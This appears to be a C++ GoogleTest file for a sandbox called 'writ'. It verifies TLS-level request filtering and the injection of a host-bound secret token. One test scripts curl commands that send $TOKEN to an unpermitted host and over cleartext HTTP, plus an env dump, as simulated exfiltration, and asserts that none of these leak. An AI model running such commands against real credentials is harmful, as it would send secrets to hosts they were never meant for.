// Requests inside TLS: rules that speak of them, and secrets that a job never holds.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>
#include <string>

#include "matchers.h"
#include "outside.h"

namespace writ::net_test {
namespace {

TEST(NetIntercept, RequestsAreJudgedInsideTls) {
  WRIT_NEEDS_CLIENTS("/usr/bin/curl");
  const Outside outside;
  outside.Serve("ok.txt", "granted\n");
  outside.Serve("no.txt", "kept\n");
  const std::string fetch = "curl -sS https://public.test:8443/ok.txt; curl -sS https://public.test:8443/no.txt\n";
  const Job job = RunJob(outside, {"--net-rule", "public.test:8443 GET /ok*"}, fetch + kNoProxy + fetch);
  EXPECT_THAT(job.ended.out, AllOf(HasSubstr("granted"), HasSubstr("smallest grant"), Not(HasSubstr("kept")))) << job.ended.err;
  EXPECT_THAT(outside.Arrived("http "), AllOf(testing::SizeIs(2), Each(HasSubstr("GET /ok.txt"))));
  EXPECT_THAT(job.attempts(), Contains(HasSubstr("public.test:8443 transparent blocked")));
}

TEST(NetIntercept, Attack26_ABoundSecretIsPutInOutsideAndNeverComesBack) {
  WRIT_NEEDS_CLIENTS("/usr/bin/curl");
  const Outside outside;
  std::ofstream(outside.File("token")) << kSecretValue;
  const auto set = outside.Writ({"secret", "set", "TOKEN", "--host", "public.test", "--from", "file:" + outside.File("token")});
  ASSERT_EQ(set.status, 0) << set.err;
  const std::string use = "curl -sS -o /dev/null https://public.test:8443/path/$TOKEN\n"
                          "curl -sS -d \"key=$TOKEN\" https://public.test:8443/echo; echo\n";
  const Job job = RunJob(outside, {"--net", "public.test", "--net", "other.test", "--secret", "TOKEN"},
                         use + kNoProxy + use + "curl -sS -k -o /dev/null https://other.test:8443/other/$TOKEN\n"
                                                "curl -sS http://public.test:8080/clear/$TOKEN; env");
  EXPECT_THAT(outside.Arrived("http public.test"), AllOf(Contains(HasSubstr("GET /path/" + kSecretValue)).Times(2), Not(Contains(HasSubstr("/clear/")))));
  EXPECT_THAT(outside.Arrived("http other.test"), Not(Contains(HasSubstr(kSecretValue))));
  EXPECT_THAT(job.ended.out, AllOf(HasSubstr("key=writ-secret-TOKEN-"), Not(HasSubstr(kSecretValue)))) << job.ended.err;
  EXPECT_THAT(canon::Compact(job.bundle), AllOf(HasSubstr("TOKEN"), Not(HasSubstr(kSecretValue))));
}

}  // namespace
}  // namespace writ::net_test
